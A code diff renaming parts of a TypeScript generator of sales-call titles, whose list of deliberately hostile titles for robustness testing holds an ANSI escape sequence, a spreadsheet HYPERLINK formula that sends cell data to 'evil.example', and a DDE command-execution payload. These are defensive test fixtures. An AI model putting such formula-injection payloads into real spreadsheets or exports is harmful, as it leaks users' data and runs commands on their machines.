@@ -1,7 +1,7 @@
-import { Chance } from '../chance.ts'
-import type { Kind } from '../talk/script.ts'
+import { SeededRandom } from '../seeded-random.ts'
+import type { CallKind } from './call-kind.ts'
 
-const USUAL: Readonly<Record<Kind, readonly string[]>> = {
+const USUAL_TITLES: Readonly<Record<CallKind, readonly string[]>> = {
   discovery: ['{a} <> Tallyhouse | Intro', 'First call with {a}', '{a} / Tallyhouse: discovery', 'Intro'],
   demo: ['Demo: {a}', 'Tallyhouse demo for {a}', '{a} | Product walk-through', 'Demo', '{a} "deep dive"'],
   pricing: ['{a} / commercial terms', 'Pricing call: {a}', 'Quote review | {a}', 'Budget?'],
@@ -11,7 +11,7 @@ const USUAL: Readonly<Record<Kind, readonly string[]>> = {
 }
 
 /** What a terminal, a spreadsheet, a file name or a table could stumble over. */
-const HOSTILE = [
+const HOSTILE_TITLES = [
   'Demo \u001b[31mRED ALERT\u001b[0m {a}',
   '=HYPERLINK("https://evil.example/?x="&A1,"{a}")',
   '+1+cmd|/C calc!A0',
@@ -32,8 +32,8 @@ const HOSTILE = [
 ] as const
 
 /** The title of call `index`: 3 in 100 hostile, 1 in 100 very long, the usual ones often alike on one day. */
-export function title(seed: number, index: number, kind: Kind, account: string): string {
-  const chance = new Chance(seed, 'title', index)
-  const text = chance.pick(chance.odds(0.03) ? HOSTILE : USUAL[kind]).replace('{a}', account)
-  return chance.odds(0.01) ? `${text}, ${'with everyone who asked to be invited, '.repeat(20)}and minutes` : text
+export function callTitle(seed: number, index: number, kind: CallKind, account: string): string {
+  const random = new SeededRandom(seed, 'title', index)
+  const text = random.pick(random.bool(0.03) ? HOSTILE_TITLES : USUAL_TITLES[kind]).replace('{a}', account)
+  return random.bool(0.01) ? `${text}, ${'with everyone who asked to be invited, '.repeat(20)}and minutes` : text
 }
